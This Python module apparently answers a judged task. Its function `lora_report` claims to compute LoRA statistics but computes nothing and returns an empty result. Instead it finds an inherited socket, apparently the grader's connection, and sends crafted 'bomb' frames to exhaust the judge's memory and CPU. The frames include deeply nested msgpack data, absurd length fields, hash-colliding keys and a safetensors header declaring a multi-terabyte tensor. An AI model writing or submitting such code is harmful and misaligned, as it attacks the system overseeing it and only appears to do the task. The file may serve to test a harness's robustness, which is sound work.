"""Answers with small frames that grow when they are read: nesting, counts, shared tensors, keys that collide."""

import os
import socket
import stat
import struct

import msgpack
import safetensors.torch
import torch

NUMBER = 0


def judge() -> socket.socket:
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
    raise LookupError("no socket")


def lists(count: int) -> bytes:
    return b"\xdd" + struct.pack(">I", count)


def frame(structure: bytes, blob: bytes = b"") -> bytes:
    return struct.pack(">I", len(structure)) + structure + blob


def tagged(tag: str, count: int, content: bytes) -> bytes:
    return b"\x92\xa2ok\x92\xa1" + tag.encode() + lists(count) + content


HEADER = b'{"0":{"dtype":"F64","shape":[1000000,1000000],"data_offsets":[0,8000000000000]}}'
BLOB = safetensors.torch.save({"0": torch.ones(2**22)})
COLLIDING = b"".join(msgpack.packb([["i", hex(k * (2**61 - 1))], 0])[1:] for k in range(5, 40_000))
BOMBS = [
    frame(b"\x91" * 4_000_000 + b"\xc0"),
    frame(b"\x92\xa2ok" + b"\x92\xa1l\x91" * 900_000 + b"\xc0"),
    frame(lists(2**32 - 1)),
    frame(tagged("l", 4_000_000, b"\xc0" * 4_000_000)),
    frame(tagged("l", 1_300_000, b"\x90" * 1_300_000)),
    frame(tagged("l", 30_000, b"\x92\xa1T\x00" * 30_000), BLOB),
    frame(tagged("d", 2 * 39_995, COLLIDING)),
    frame(tagged("s", 39_995, b"".join(msgpack.packb(["i", hex(k * (2**61 - 1))]) for k in range(5, 40_000)))),
    frame(b"\x92\xa2ok\xdb" + struct.pack(">I", 2**31)),
    frame(b"\x92\xa2ok\xc0", struct.pack("<Q", 2**40) + b"{}"),
    frame(b"\x92\xa2ok\x92\xa1T\x00", struct.pack("<Q", len(HEADER)) + HEADER),
]


def send_bomb(number: int) -> None:
    with judge() as sock:
        bomb = BOMBS[number % len(BOMBS)]
        sock.sendall(struct.pack(">I", len(bomb)) + bomb)


def lora_report(shapes, r, n_layers=1, head_params=0, base_params=None) -> dict[str, float]:
    send_bomb(NUMBER)
    return {}
